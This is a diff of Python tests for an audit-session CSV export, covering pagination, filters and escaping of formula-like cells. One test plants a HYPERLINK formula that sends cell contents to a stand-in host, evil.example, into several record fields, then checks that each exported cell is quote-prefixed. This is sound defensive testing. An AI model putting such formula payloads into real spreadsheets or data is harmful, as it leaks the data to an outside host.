@@ -105,7 +105,7 @@ def test_holds_what_the_list_shows_and_all_pages_of_it(auditor: Client):
     for number in range(60):
         record(f"a{number:02}", username="ann")
     record("b1", username="bob", reason="idle", ended=as_datetime(START))
-    assert len(exported(auditor, "?p=2")) == 61
+    assert len(exported(auditor, "?p=99")) == 61
     assert [row["session"] for row in exported(auditor, "?q=bob")] == ["b1"]
     assert [row["session"] for row in exported(auditor, "?state=ended&reason__exact=idle")] == ["b1"]
     assert exported(auditor, "?q=bob&state=live") == []
@@ -129,11 +129,21 @@ def test_who_is_no_operator_is_sent_to_the_login_page():
 
 
 @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
-def test_no_cell_is_a_formula(auditor: Client, first: str):
+def test_no_cell_is_a_formula(auditor: Client, monkeypatch: pytest.MonkeyPatch, first: str):
+    # What a user agent calls itself is part of the name of a device.
+    monkeypatch.setattr(export, "device_of", str)
     evil = f'{first}HYPERLINK("http://evil.example/?"&A1,"x")'
-    record("w1", username=evil, user_agent=evil, address=evil[:64])
+    texts = {"username": evil, "user_agent": evil, "address": evil[:64], "ended_by_name": evil}
+    record(evil[:32], reason="revoked", ended=as_datetime(START), **texts)
     (row,) = exported(auditor)
-    assert (row["user"], row["user_agent"], row["address"]) == (f"'{evil}", f"'{evil}", f"'{evil[:64]}")
+    assert {name: text for name, text in row.items() if "HYPERLINK" in text} == {
+        "session": f"'{evil[:32]}",
+        "user": f"'{evil}",
+        "device": f"'{evil}",
+        "user_agent": f"'{evil}",
+        "address": f"'{evil[:64]}",
+        "ended_by": f"'{evil}",
+    }
 
 
 @pytest.mark.parametrize("divider", [";", "; ", "\t", "|", "\n", "\r\n"])
